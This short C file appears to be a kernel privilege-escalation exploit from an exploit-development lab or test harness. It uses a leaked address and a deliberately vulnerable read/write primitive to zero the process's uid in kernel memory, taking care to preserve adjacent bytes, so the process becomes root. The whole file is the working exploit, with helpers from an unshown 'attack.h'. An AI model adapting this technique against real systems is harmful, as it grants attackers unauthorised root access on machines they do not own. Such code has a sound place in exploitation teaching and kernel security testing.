/* Makes the process root with one store to where the kernel keeps its uid. */
#include <stdio.h>

#include "attack.h"

int main(void)
{
	struct bw_leak leak;

	attack_leak(&leak);

	/* the vulnerable store is 8 bytes: what is beside the uid must stay */
	uint64_t at = leak.process_uid & ~7ul;
	unsigned int shift = (unsigned int)(leak.process_uid - at) * 8;
	uint64_t word = (uint64_t)bw_vuln_read(at);

	attack_say("the uid is %u, at 0x%lx", (uint32_t)(word >> shift), leak.process_uid);
	attack_check("vuln_write", bw_vuln_write(at, word & ~(0xfffffffful << shift)));
	return attack_finish();
}
